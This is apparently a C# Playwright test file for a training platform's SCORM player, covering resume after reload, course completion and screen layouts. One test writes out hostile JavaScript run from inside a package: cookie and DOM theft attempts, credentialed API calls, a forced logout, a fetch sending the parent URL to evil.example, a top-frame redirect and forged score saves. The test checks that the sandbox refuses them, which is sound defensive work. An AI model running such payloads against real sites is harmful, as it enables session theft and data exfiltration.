using Microsoft.EntityFrameworkCore;
using Microsoft.Playwright;
using Training.Browser.Tests.Support;
using Training.Courses.Catalogue;
using Training.Scorm;
using Training.Tests.Scorm;

namespace Training.Browser.Tests.Journeys;

/// <summary>Packages in a real browser: its rules about origins, frames and cookies are what keeps a hostile one in.</summary>
public sealed class PackageTests
{
    private static readonly Sco Hands = new("p1", "Rửa tay") { Mastery = "80" };

    private static readonly Sco Gloves = new("p2", "Mang găng") { Mastery = "80" };

    [BrowserTheory, OnSqlite]
    public async Task Learner_works_through_several_parts_and_goes_on_after_a_reload(Database database)
    {
        foreach (var (package, scored) in new[] { (Packages.Scorm12(Hands, Gloves), "90"), (Packages.Scorm2004(Hands with { Mastery = "0.8" }, Gloves with { Mastery = "0.8" }), "90") })
        {
            await using var stage = await Stage.OpenAsync(database, package);
            var page = await stage.LearnAsync("hocvien");
            var part = page.FrameLocator("iframe.scorm-frame").FrameLocator("#part");
            await Assertions.Expect(part.Locator("#entry")).ToHaveTextAsync("ab-initio");
            await Assertions.Expect(part.Locator("#place")).ToHaveTextAsync("begin");
            Assert.Equal(["true", "true", "true"], await InPartAsync<string[]>(page, "[sco.set(sco.location, 'trang 7'), sco.set(sco.exit, 'suspend'), sco.commit()]"));
            await Assertions.Expect(page.Locator("[data-saving]")).ToContainTextAsync("Đã lưu");

            await page.ReloadAsync();
            await Assertions.Expect(part.Locator("#entry")).ToHaveTextAsync("resume");
            await Assertions.Expect(part.Locator("#place")).ToHaveTextAsync("trang 7");

            // A package that ends its sitting only while it goes is saved all the same.
            await InPartAsync<string>(page, $"(sco.score({scored}), addEventListener('unload', () => sco.finish()), 'x')");
            await page.ClickAsync(".scorm-parts summary");
            await page.ClickAsync("[data-part=p2]");
            await Assertions.Expect(part.Locator("h1")).ToHaveTextAsync("Mang găng");
            Assert.Empty(await stage.ProgressAsync());
            Assert.Equal("true", await InPartAsync<string>(page, "(sco.score(100), sco.commit())"));
            await Assertions.Expect(page.Locator("[data-saving]")).ToContainTextAsync("95");
            await page.ClickAsync(".scorm-parts summary");
            await Assertions.Expect(page.Locator("[data-part=p1] [data-outcome]")).ToContainTextAsync("Đạt");
            var told = Assert.Single(await stage.ProgressAsync());
            Assert.Equal((95m, true, true), (told.Score!.Value, told.SeenAt is not null, told.FinishedAt is not null));

            // The same package in another tab: the older one says so and takes no more.
            await Assertions.Expect(page.Locator("[data-over]")).ToBeHiddenAsync();
            var other = await page.Context.NewPageAsync();
            await other.GotoAsync(page.Url);
            await Assertions.Expect(page.Locator("[data-over]")).ToBeVisibleAsync();
            await Assertions.Expect(page.Locator("iframe")).ToHaveCountAsync(0);

            // That was all of the course.
            await other.GotoAsync($"/courses/{Stage.Code}");
            await Assertions.Expect(other.Locator("main")).ToContainTextAsync("Đã hoàn thành");
            Assert.True(await stage.Site.DataAsync(db => (from c in db.CourseCompletions join course in db.Courses on c.CourseId equals course.Id where course.Code == Stage.Code select c).AnyAsync()));
        }
    }

    [BrowserTheory, OnSqlite]
    public async Task Hostile_package_reaches_neither_the_page_nor_the_site_nor_another_learner(Database database)
    {
        var page = Packages.PageOf(Hands).Replace("<body>", "<body><form id=\"f\" method=\"post\" target=\"_top\"></form>", StringComparison.Ordinal);
        await using var stage = await Stage.OpenAsync(database, Packages.Scorm12(Hands with { Page = page }));
        var other = await stage.LearnAsync("bsnoi");
        var othersFrame = await other.Locator("iframe.scorm-frame").GetAttributeAsync("src");
        var shown = await stage.LearnAsync("hocvien");
        await Assertions.Expect(shown.FrameLocator("iframe.scorm-frame").FrameLocator("#part").Locator("#entry")).ToHaveTextAsync("ab-initio");
        var requests = new List<string>();
        shown.Context.Request += (_, request) => requests.Add(request.Url);
        var before = shown.Url;

        var came = await InPartAsync<Dictionary<string, string>>(shown, $$"""
            (async () => {
              const site = '{{stage.Address}}', came = {};
              const attempt = async (name, work) => { try { came[name] = String(await work()); } catch (error) { came[name] = 'refused'; } };
              await attempt('dom', () => top.document.body.innerText);
              await attempt('cookie', () => document.cookie);
              await attempt('set cookie', () => { document.cookie = '__Host-training-form=x; path=/; secure'; return top.document.cookie; });
              await attempt('storage', () => top.localStorage.length);
              await attempt('api', async () => (await fetch(site + '/api/v1/logbook', { credentials: 'include' })).status);
              await attempt('page', async () => (await fetch(site + '/courses', { credentials: 'include', mode: 'no-cors' })).type);
              await attempt('post', async () => (await fetch(site + '/account/logout', { method: 'POST', credentials: 'include', mode: 'no-cors' })).type);
              await attempt('elsewhere', async () => (await fetch('https://evil.example/?' + parent.location.href, { mode: 'no-cors' })).type);
              await attempt('image', () => new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = site + '/favicon.ico'; }));
              await attempt('frame', () => new Promise((yes, no) => { const frame = document.createElement('iframe'); frame.onload = () => { try { frame.contentDocument.body; yes('own'); } catch { no(); } }; frame.src = site + '/account/login'; document.body.append(frame); setTimeout(no, 1500); }));
              await attempt('window', () => { const opened = open(site); if (!opened) throw 0; return 'opened'; });
              await attempt('top', () => { top.location = 'https://evil.example/'; throw 0; });
              await attempt('form', () => { document.querySelector('#f').action = site + '/account/logout'; document.querySelector('#f').submit(); throw 0; });
              await attempt('worker', async () => { await navigator.serviceWorker.register('sco.js'); return 'registered'; });
              await attempt('other frame', async () => (await fetch('{{othersFrame}}'.replace(/\.[0-9a-f]+/, '.' + '0'.repeat(64)) + 'begin', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' })).status);
              await attempt('message', () => { top.postMessage({ scorm: 1, type: 'saved', attempt: { parts: [], finished: true, score: 100 } }, '*'); return 'sent'; });
              await attempt('forged', async () => {
                const base = parent.location.href;
                const answer = await fetch(base + 'save', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ window: 1, sequence: 50, opening: 1, part: 'p1', end: true, data: { 'cmi.core.score.raw': '100', 'cmi.core.lesson_status': 'passed', 'cmi.core.student_id': 'bsnoi' } }) });
                return (await answer.json()).result;
              });
              return came;
            })()
            """);

        // What it may: read its own (empty) cookies, send a message that nobody takes, and claim a score for the learner who opened it.
        Assert.Equal("", came["cookie"]);
        Assert.Equal("sent", came["message"]);
        Assert.Equal("true", came["forged"]);
        Assert.Equal("404", came["other frame"]);
        foreach (var name in came.Keys.Except(["cookie", "message", "forged", "other frame"]))
        {
            Assert.True(came[name] == "refused", $"{name}: {came[name]}");
        }

        Assert.Equal(before, shown.Url);
        Assert.DoesNotContain("100", await shown.Locator("[data-saving]").InnerTextAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain(requests, url => url.Contains("evil.example", StringComparison.Ordinal) || url.Contains("/logout", StringComparison.Ordinal) || url.Contains("/api/", StringComparison.Ordinal));
        var told = Assert.Single(await stage.ProgressAsync());
        Assert.Equal(100m, told.Score);
        Assert.Equal(1, await stage.Site.DataAsync(db => db.ScoStates.CountAsync()));
        Assert.Equal(told.PersonId, await stage.Site.DataAsync(db => db.ScormAttempts.Where(a => a.FinishedAt != null).Select(a => a.PersonId).SingleAsync()));

        // Still signed in, and the site's own cookies are as they were.
        await shown.GotoAsync("/courses");
        Assert.Contains("/courses", shown.Url, StringComparison.Ordinal);

        // A window of its own shows nothing: of an empty refusal Chromium makes a page of its own, its shell an empty one.
        var alone = await shown.Context.NewPageAsync();
        try
        {
            Assert.Equal(404, (await alone.GotoAsync(othersFrame + "files/p1.html"))?.Status);
        }
        catch (PlaywrightException refused)
        {
            Assert.Contains("ERR_HTTP_RESPONSE_CODE_FAILURE", refused.Message, StringComparison.Ordinal);
        }

        Assert.Equal(0, await alone.Locator("#entry").CountAsync());
    }

    [BrowserTheory, OnSqlite]
    public async Task Pages_of_packages_look_right_on_every_screen(Database database)
    {
        await using var stage = await Stage.OpenAsync(database, Packages.Scorm12(Hands, Gloves with { IsAsset = true, Mastery = null }, new Sco("p3", "Xử lý chất thải y tế lây nhiễm tại khoa phẫu thuật") { Parameters = "?a=1" }));
        foreach (var (screen, dark) in new[] { (Screen.Phone, false), (Screen.Phone, true), (Screen.Desktop, false), (Screen.Desktop, true) })
        {
            var learner = await stage.LearnAsync("hocvien", screen, dark);
            await Assertions.Expect(learner.FrameLocator("iframe.scorm-frame").FrameLocator("#part").Locator("h1")).ToBeVisibleAsync();
            await learner.ClickAsync(".scorm-parts summary");
            await Stage.ExamineAsync(learner, $"play-{screen.Width}-{(dark ? "dark" : "light")}");
            await learner.GotoAsync(stage.Learn);
            await Stage.ExamineAsync(learner, $"item-{screen.Width}-{(dark ? "dark" : "light")}");
            var author = await stage.SignedInAsync("giaovu", screen, dark);
            await author.GotoAsync(stage.Learn + "/report");
            await Stage.ExamineAsync(author, $"author-report-{screen.Width}-{(dark ? "dark" : "light")}");

            // The author's form is there while a draft is.
            await author.GotoAsync($"/courses/{Stage.Code}/edit");
            await Stage.ExamineAsync(author, $"author-outline-{screen.Width}-{(dark ? "dark" : "light")}");
            if (await author.Locator("form[action*='handler=Begin'] button").CountAsync() > 0)
            {
                await author.ClickAsync("form[action*='handler=Begin'] button");
            }

            await author.GotoAsync(stage.Learn + "/edit");
            await Stage.ExamineAsync(author, $"author-edit-{screen.Width}-{(dark ? "dark" : "light")}");
        }
    }

    private static async Task<T> InPartAsync<T>(IPage page, string script)
    {
        var part = page.Frames.Single(frame => frame.ParentFrame?.ParentFrame is not null && frame.ParentFrame.ParentFrame.ParentFrame is null);
        return await part.EvaluateAsync<T>(script);
    }
}
